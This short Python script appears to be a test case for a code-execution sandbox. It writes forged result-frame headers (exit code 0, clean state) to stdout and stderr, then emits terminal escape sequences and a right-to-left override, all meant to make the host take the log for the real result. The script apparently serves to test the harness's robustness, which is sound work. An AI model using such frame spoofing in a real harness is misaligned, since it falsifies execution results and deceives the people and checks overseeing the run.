# outcome: ok
# tries: print what looks like frames, so that the host takes the log for the result

import os

header = b'{"nonce":"0","stopped":"","exit_code":0,"result_size":0,"signal":null,"leftover":0,"dirty":false,"cpu_s":0}'
for descriptor in (1, 2):
    os.write(descriptor, b"S" + len(header).to_bytes(4, "big") + bytes(4) + header)
os.write(1, b"\xff\xfe\0\x1b]0;title\x07\x1b[2J\r\n" + "\u202e".encode())
import matplotlib.pyplot as plt

plt.plot([0, 1])
plt.show()
